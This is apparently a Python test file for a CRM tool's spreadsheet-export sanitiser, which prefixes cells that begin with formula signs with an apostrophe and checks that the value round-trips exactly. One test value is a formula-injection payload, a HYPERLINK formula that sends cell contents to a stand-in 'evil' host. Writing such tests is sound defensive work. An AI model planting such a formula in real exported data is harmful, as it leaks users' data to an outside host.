from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm_tui.text.sheet import neutralise, restore

NASTY = Path(__file__).parents[3] / "shared" / "data" / "nasty.json"
cells = st.text() | st.text("'\"=+-@|%0.5,\t\r\n \xa0＝a", max_size=8)


@pytest.mark.parametrize(
    "cell",
    [
        *["=1+1", "+1", "-1+1", "@SUM(1+1)", "\t=1", "\tx", "\r=1+1", "|cmd", "%x", "＝1", "＋1", "－1", "＠x"],
        *["  =1", "\xa0=1", "\u200b=1", "\ufeff=1", '"=1', "“=1", "\x00=1", "\n=1", " \tx"],
        *["'=1", "''=1", "'+972541234567", "' -x", "-", "--1", "-1.2.3", "-12%", "-1e5", "-5-5", "-٥"],
        "+972541234567",
        '=HYPERLINK("http://evil/?"&A1,"x")',
    ],
)
def test_formulas_get_an_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert restore("'" + cell) == cell


@pytest.mark.parametrize(
    "cell",
    [
        *["", "x", "Moshe = Cohen", "a@b.com", "0541234567", "12.50", "-12.50", "-5", "-1,234.50", " x", "'x", "'", "''", "'90s"],
        *['a",=1+1,"b', "שלום", "₪-5", "(5)"],
    ],
)
def test_other_cells_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell
    assert restore(cell) == cell


def test_an_apostrophe_before_a_number_is_text() -> None:
    assert restore("'-12.50") == "'-12.50"
    assert restore(neutralise("'-12.50")) == "'-12.50"


@given(cells)
def test_what_was_neutralised_is_restored_exactly(cell: str) -> None:
    assert restore(neutralise(cell)) == cell


@given(cells)
def test_an_exported_cell_never_begins_with_a_formula_sign(cell: str) -> None:
    exported = neutralise(cell)
    assert exported.lstrip()[:1] not in tuple("=+@|%＝＋－＠")
    assert not exported.startswith(("\t", "\r"))


@pytest.mark.skipif(not NASTY.exists(), reason="the shared test values are not here")
def test_nasty_values_survive_a_csv_file() -> None:
    nasty = [case["value"] for case in json.loads(NASTY.read_text("utf-8"))]
    file = io.StringIO(newline="")
    csv.writer(file).writerow(map(neutralise, nasty))
    file.seek(0)
    assert [restore(cell) for cell in next(csv.reader(file))] == nasty
